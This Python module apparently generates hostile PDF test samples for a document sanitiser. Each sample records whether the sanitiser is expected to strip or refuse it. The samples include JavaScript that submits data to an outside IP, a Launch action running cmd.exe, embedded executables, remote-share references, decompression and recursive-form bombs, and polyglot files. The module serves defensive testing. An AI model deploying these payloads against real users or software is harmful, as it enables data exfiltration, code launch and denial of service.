"""Hostile PDF files."""

import io
import zipfile
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream

from tools.hostile.samples import EICAR, EXE, HTML, Hostile, pdf, photo, position, raw_pdf, raw_stream, saved, zeros

SCRIPT = "app.alert('owned'); this.submitForm('http://198.51.100.7/')"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def action(kind: str, **more: object) -> Dictionary:
    """An action dictionary."""
    return Dictionary(S=Name("/" + kind), **more)


def script() -> Dictionary:
    """An action that runs JavaScript."""
    return action("JavaScript", JS=SCRIPT)


def _root(**entries: Callable[[Pdf], object]) -> Callable[[], bytes]:
    def change(document: Pdf) -> None:
        for key, value in entries.items():
            document.Root["/" + key] = value(document)

    return lambda: pdf(change)


def _page(**entries: Callable[[Pdf], object]) -> Callable[[], bytes]:
    def change(document: Pdf) -> None:
        for key, value in entries.items():
            document.pages[0].obj["/" + key] = value(document)

    return lambda: pdf(change)


def _note(subtype: str, **more: Callable[[Pdf], object]) -> Callable[[], bytes]:
    """A page with one annotation."""

    def notes(document: Pdf) -> Array:
        made = {key: value(document) for key, value in more.items()}
        note = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([72, 600, 300, 640]), **made)
        return Array([document.make_indirect(note)])

    return _page(Annots=notes)


def _field(**more: object) -> Callable[[Pdf], object]:
    """A form with one field, filled in, that acts while one types."""

    def form(document: Pdf) -> Dictionary:
        field = document.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Tx,
                T="name",
                V="Hong",
                DA="/F1 12 Tf 0 g",
                P=document.pages[0].obj,
                Rect=Array([72, 600, 300, 640]),
                AA=Dictionary(K=script()),
            )
        )
        document.pages[0].obj["/Annots"] = Array([field])
        fonts = document.pages[0].obj["/Resources"]["/Font"]
        return Dictionary(Fields=Array([field]), NeedAppearances=True, DR=Dictionary(Font=fonts), **more)

    return form


def _attached(document: Pdf) -> Dictionary:
    stream = Stream(document, EXE)
    stream["/Type"] = Name.EmbeddedFile
    return document.make_indirect(Dictionary(Type=Name.Filespec, F="invoice.exe", EF=Dictionary(F=stream)))


def _plain_attachment(content: bytes) -> Callable[[], bytes]:
    """As a simple program writes it. ClamAV 1.4 looks into such a one, not into one whose dictionary holds another."""

    def change(document: Pdf) -> None:
        stream = Stream(document, content)
        stream["/Type"] = Name.EmbeddedFile
        named = Dictionary(Type=Name.Filespec, F="eicar.com", EF=Dictionary(F=stream))
        document.Root["/Names"] = Dictionary(EmbeddedFiles=Dictionary(Names=Array(["eicar.com", document.make_indirect(named)])))

    return lambda: pdf(change)


def _with_attachment(content: bytes, name: str) -> Callable[[], bytes]:
    def change(document: Pdf) -> None:
        document.attachments[name] = content

    return lambda: pdf(change)


def _file_with_tail(tail: Callable[[], bytes]) -> Callable[[], bytes]:
    return lambda: pdf() + tail()


def archive() -> bytes:
    """A ZIP that a Java machine would run."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
        package.writestr("Evil.class", b"\xca\xfe\xba\xbe")
    return buffer.getvalue()


def _laughing(name: bytes = b"X") -> bytes:
    """Twelve forms, each drawing the next ten times: 10**12 drawings in a few hundred bytes."""
    count = 12
    objects = [
        CATALOG,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>",
    ]
    objects = [part.replace(b"/X 5", b"/%s 5" % name) for part in objects]
    objects.append(raw_stream(b"/%s Do " % name * 10))
    for number in range(count):
        following = b"/Resources << /XObject << /%s %d 0 R >> >>" % (name, 6 + number) if number + 1 < count else b""
        body = b"/%s Do " % name * 10 if following else b"0 0 9 9 re f"
        objects.append(raw_stream(body, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] " + following))
    return raw_pdf(objects)


def _self_drawing() -> bytes:
    form = raw_stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>")
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>"
    return raw_pdf([CATALOG, PAGES, page, raw_stream(b"/X Do"), form])


def _with_page(page: bytes, *others: bytes) -> Callable[[], bytes]:
    return lambda: raw_pdf([CATALOG, PAGES, b"<< /Type /Page /Parent 2 0 R %s >>" % page, *others])


def _bomb(megabytes: int, times: int) -> bytes:
    filters = b"/Filter [" + b"/FlateDecode " * times + b"]"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    return raw_pdf([CATALOG, PAGES, page, raw_stream(zeros(megabytes, times), filters)])


def _many_bombs() -> bytes:
    """No stream is too large, all together are."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    stream = raw_stream(zeros(200), b"/Filter /FlateDecode")
    return raw_pdf([CATALOG, PAGES, page, raw_stream(b""), *([stream] * 12)])


def _object_stream_bomb() -> bytes:
    """The objects themselves lie in a stream that never ends."""
    described = b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]"
    return raw_pdf(
        [
            CATALOG,
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            raw_stream(zeros(300, 2), described),
        ]
    )


def _hidden_in_object_stream() -> bytes:
    return pdf(_set_open_action, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _set_open_action(document: Pdf) -> None:
    document.Root["/OpenAction"] = document.make_indirect(script())


def _many_pages() -> bytes:
    kids = b"3 0 R " * 501
    pages = b"<< /Type /Pages /Kids [%s] /Count 501 >>" % kids
    return raw_pdf([CATALOG, pages, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"])


def _locked(user: str) -> Callable[[], bytes]:
    return lambda: pdf(encryption=pikepdf.Encryption(user=user, owner="owner", R=6))


def _long_notes() -> bytes:
    def change(document: Pdf) -> None:
        notes = Stream(document, b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + b"A" * (2 << 20) + b"</x:xmpmeta>")
        notes["/Type"], notes["/Subtype"] = Name.Metadata, Name.XML
        document.Root["/Metadata"] = notes
        document.docinfo["/Author"] = "Hong Gil-dong"

    return pdf(change)


def _layers(document: Pdf) -> Dictionary:
    layer = document.make_indirect(Dictionary(Type=Name.OCG, Name="hidden terms"))
    document.pages[0].obj["/Resources"]["/Properties"] = Dictionary(L0=layer)
    document.pages[0].obj["/Contents"] = Stream(document, b"/OC /L0 BDC BT /F1 24 Tf 72 700 Td (Deposit 0 won) Tj ET EMC")
    return Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))


def _external_stream() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    return raw_pdf([CATALOG, PAGES, page, raw_stream(b"0 0 9 9 re f", b"/F (\\\\\\\\198.51.100.7\\\\share\\\\x)")])


def _postscript() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>"
    return raw_pdf([CATALOG, PAGES, page, raw_stream(b"/X Do"), raw_stream(b"(x) (w) file", b"/Type /XObject /Subtype /PS")])


def _with_photo() -> bytes:
    """As an app makes it that puts the telephone's own JPEG into a PDF."""
    made = saved(photo(), "JPEG", exif=position(), comment=b"secret place")
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 320 240] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>"
    described = (
        b"/Type /XObject /Subtype /Image /Width 320 /Height 240 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode"
    )
    return raw_pdf([CATALOG, PAGES, page, raw_stream(b"320 0 0 240 0 0 cm /X Do"), raw_stream(made, described)])


def _xref_loop() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    made = raw_pdf([CATALOG, PAGES, page, raw_stream(b"0 0 9 9 re f")])
    start = made.rindex(b"xref\n0 ")
    return made.replace(b"trailer\n<< ", b"trailer\n<< /Prev %d " % start)


_JS = ("javascript",)
_JS_TRACES = (b"/JavaScript", b"/JS", b"app.alert")


def files() -> list[Hostile]:
    """All of them."""
    media = lambda document: Dictionary(Assets=Dictionary(Names=Array(["movie.swf", _attached(document)])))  # noqa: E731
    return [
        Hostile("js-open.pdf", _root(OpenAction=lambda _: script()), removed=_JS, traces=_JS_TRACES),
        Hostile("js-names.pdf", _root(Names=lambda _: Dictionary(JavaScript=Dictionary(Names=Array(["x", script()])))), removed=_JS, traces=_JS_TRACES),
        Hostile("js-page.pdf", _page(AA=lambda _: Dictionary(O=script())), removed=_JS, traces=_JS_TRACES),
        Hostile("js-close.pdf", _root(AA=lambda _: Dictionary(WC=script())), removed=_JS, traces=_JS_TRACES),
        Hostile("js-field.pdf", _root(AcroForm=_field()), removed=("form", "javascript"), traces=(*_JS_TRACES, b"/AcroForm")),
        Hostile("js-note.pdf", _note("Link", A=lambda _: script()), removed=_JS, traces=_JS_TRACES),
        Hostile("js-chain.pdf", _note("Link", A=lambda _: action("Named", N=Name.NextPage, Next=script())), removed=_JS, traces=_JS_TRACES),
        Hostile("js-in-object-stream.pdf", _hidden_in_object_stream, removed=_JS, traces=_JS_TRACES),
        Hostile("js-escaped-name.pdf", lambda: pdf(_set_open_action).replace(b"/JavaScript", b"/J#61vaScrip#74").replace(b"/JS", b"/#4aS"), removed=_JS, traces=_JS_TRACES),
        Hostile("js-in-resources.pdf", _page(Resources=lambda _: Dictionary(XObject=Dictionary(A=script()))), removed=_JS, traces=_JS_TRACES),
        Hostile("launch.pdf", _root(OpenAction=lambda _: action("Launch", F="cmd.exe", Win=Dictionary(F="cmd.exe", P="/c calc"))), removed=("launch",), traces=(b"cmd.exe",)),
        Hostile("attached-exe.pdf", _with_attachment(EXE, "invoice.exe"), removed=("embedded",), traces=(b"invoice.exe", EXE[:64])),
        Hostile("attached-note.pdf", _note("FileAttachment", FS=_attached), removed=("embedded",), traces=(b"invoice.exe",)),
        Hostile("hidden-note.pdf", _note("Text", Contents=lambda _: "call 198.51.100.7"), removed=("notes",), traces=(b"198.51.100.7",)),
        Hostile("position-in-picture.pdf", _with_photo, removed=("position",), traces=(b"Exif", b"Teojeon Tele", b"secret place")),
        Hostile("rich-media.pdf", _note("RichMedia", RichMediaContent=media), removed=("media",), traces=(b"movie.swf",)),
        Hostile("movie.pdf", _note("Screen", A=lambda _: action("Rendition", OP=0, JS=SCRIPT)), removed=("media", "javascript"), traces=_JS_TRACES),
        Hostile("xfa.pdf", _root(AcroForm=_field(XFA=b"<xdp:xdp><script>evil()</script></xdp:xdp>")), removed=("xfa",), traces=(b"xdp:xdp",)),
        Hostile("xfa-dynamic.pdf", _root(AcroForm=_field(XFA=b"<xdp:xdp/>"), NeedsRendering=lambda _: True), refused="PDF_FORM"),
        Hostile("submit.pdf", _note("Link", A=lambda _: action("SubmitForm", F="http://198.51.100.7/")), removed=("action",), traces=(b"198.51.100.7",)),
        Hostile("tracking-link.pdf", _note("Link", A=lambda _: action("URI", URI="http://198.51.100.7/seen")), removed=("link",), traces=(b"198.51.100.7",)),
        Hostile("open-uri.pdf", _root(OpenAction=lambda _: action("URI", URI="http://198.51.100.7/")), removed=("link", "action"), traces=(b"198.51.100.7",)),
        Hostile("other-document.pdf", _root(OpenAction=lambda _: action("GoToR", F="\\\\198.51.100.7\\share\\x.pdf")), removed=("external",), traces=(b"198.51.100.7",)),
        Hostile("external-stream.pdf", _external_stream, removed=("external",), traces=(b"198.51.100.7",)),
        Hostile("postscript.pdf", _postscript, traces=(b"(w) file",)),
        Hostile("locked.pdf", _locked("secret"), refused="PDF_ENCRYPTED"),
        Hostile("restricted.pdf", _locked(""), removed=("password",), traces=(b"/Encrypt",)),
        Hostile("portfolio.pdf", _root(Collection=lambda _: Dictionary(View=Name.D)), refused="PDF_PORTFOLIO"),
        Hostile("layers.pdf", _root(OCProperties=_layers), removed=("layers",), traces=(b"/OCG",)),
        Hostile("long-metadata.pdf", _long_notes, removed=("metadata",), traces=(b"Hong Gil-dong", b"xmpmeta")),
        Hostile("cut-short.pdf", lambda: pdf()[:350], refused="PDF_DAMAGED"),
        Hostile("cut-in-the-tail.pdf", lambda: pdf()[:450], removed=("repaired",)),
        Hostile("cut-before-a-font.pdf", lambda: pdf()[:371], refused="PDF_DAMAGED"),
        Hostile("only-a-mark.pdf", lambda: b"%PDF-1.7\n" + b"\x00\xff" * 5000, refused="PDF_DAMAGED"),
        Hostile("bomb-twice-deflated.pdf", lambda: _bomb(300, 2), refused="TOO_HEAVY"),
        Hostile("bomb-many-filters.pdf", lambda: _bomb(1, 9), refused="TOO_HEAVY"),
        Hostile("bomb-in-sum.pdf", _many_bombs, refused="TOO_HEAVY"),
        Hostile("bomb-of-objects.pdf", _object_stream_bomb, refused="TOO_HEAVY"),
        Hostile("laughing-forms.pdf", _laughing, refused="TOO_HEAVY"),
        Hostile("laughing-in-korean.pdf", lambda: _laughing("굴림".encode("cp949")), refused="TOO_HEAVY"),
        Hostile("laughing-with-comments.pdf", lambda: _laughing().replace(b"/X Do ", b"/X%\nDo "), refused="TOO_HEAVY"),
        Hostile("laughing-escaped.pdf", lambda: _laughing(b"#58").replace(b"<< /#58", b"<< /X"), refused="TOO_HEAVY"),
        Hostile("draws-itself.pdf", _self_drawing, refused="PDF_DAMAGED"),
        Hostile("deep-nesting.pdf", _with_page(b"/MediaBox [0 0 9 9] /X " + b"[" * 100_000 + b"]" * 100_000), refused="PDF_DAMAGED"),
        Hostile("loop-of-pages.pdf", lambda: raw_pdf([CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]), refused="PDF_DAMAGED"),
        Hostile("loop-of-tables.pdf", _xref_loop, removed=("repaired",)),
        Hostile("huge-page.pdf", _with_page(b"/MediaBox [0 0 999999999 999999999]"), refused="PICTURE_TOO_LARGE"),
        Hostile("many-pages.pdf", _many_pages, refused="TOO_MANY_PAGES"),
        Hostile("huge-picture.pdf", _with_page(b"/MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>", raw_stream(b"/X Do"), raw_stream(b"\xff\xd8\xff", b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /Filter /DCTDecode")), refused="TOO_HEAVY"),
        Hostile("zip-tail.pdf", _file_with_tail(archive), traces=(b"Evil.class", b"PK\x05\x06")),
        Hostile("html-tail.pdf", _file_with_tail(lambda: HTML), traces=(b"<script>",)),
        Hostile("html-head.pdf", lambda: HTML + b"\n" + pdf(), refused="KIND_UNKNOWN"),
        Hostile("exe-head.pdf", lambda: EXE + pdf(), refused="KIND_UNKNOWN"),
        Hostile("eicar.pdf", _plain_attachment(EICAR), removed=("embedded",), traces=(EICAR,)),
        Hostile("eicar-in-depth.pdf", _with_attachment(EICAR, "eicar.com"), removed=("embedded",), traces=(EICAR,)),
    ]  # fmt: skip
